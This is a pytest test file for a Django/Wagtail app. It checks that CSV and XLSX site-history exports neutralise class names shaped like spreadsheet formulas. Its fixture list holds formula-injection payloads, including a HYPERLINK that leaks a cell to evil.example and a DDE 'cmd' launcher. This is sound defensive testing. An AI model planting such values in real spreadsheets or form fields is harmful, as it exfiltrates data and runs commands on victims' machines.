"""The admin's Site history report exports CSV and XLSX files whose cells never start a
spreadsheet formula: a trainer who names a class "=HYPERLINK(...)" cannot make the administrator's
spreadsheet run it."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.workshops.factories import VenueFactory, session_form_data

pytestmark = pytest.mark.django_db

SITE_HISTORY = reverse("wagtailadmin_reports:site_history")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


@pytest.fixture
def planned_by_formula_groups(people, tree):
    """A trainer planned one session for each class named like a formula."""
    trainer = Client()
    trainer.force_login(people.trainer)
    venue = VenueFactory(name="Colegio Distrital Las Aguas")
    for name in FORMULAS:
        response = trainer.post(
            reverse("trainer:session_create"),
            session_form_data(
                campaign=tree.campaign, module=tree.module, venue=venue, group_name=name
            ),
        )
        assert response.status_code == 302, response.text[:2000]


def exported(admin, export_format: str) -> bytes:
    client = Client()
    client.force_login(admin)
    response = client.get(SITE_HISTORY, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def session_labels(cells: list[str]) -> list[str]:
    return [cell for cell in cells if "Colegio Distrital Las Aguas" in str(cell)]


def test_a_class_named_like_a_formula_is_written_as_text_in_the_site_history_csv(
    people, planned_by_formula_groups
):
    rows = list(csv.reader(io.StringIO(exported(people.admin, "csv").decode("utf-8"))))
    labels = session_labels([cell for row in rows[1:] for cell in row])

    assert len(labels) == len(FORMULAS)
    assert sorted(label.split(" · ")[0] for label in labels) == sorted(
        f"'{name}" for name in FORMULAS
    )


def test_a_class_named_like_a_formula_is_written_as_text_in_the_site_history_xlsx(
    people, planned_by_formula_groups
):
    sheet = load_workbook(io.BytesIO(exported(people.admin, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    labels = session_labels([cell.value for cell in cells])

    assert len(labels) == len(FORMULAS)
    assert sorted(label.split(" · ")[0] for label in labels) == sorted(
        f"'{name}" for name in FORMULAS
    )
    assert all(cell.data_type != "f" for cell in cells)
    # Dates stay dates that a spreadsheet can sort and add.
    assert any(cell.is_date for cell in cells)
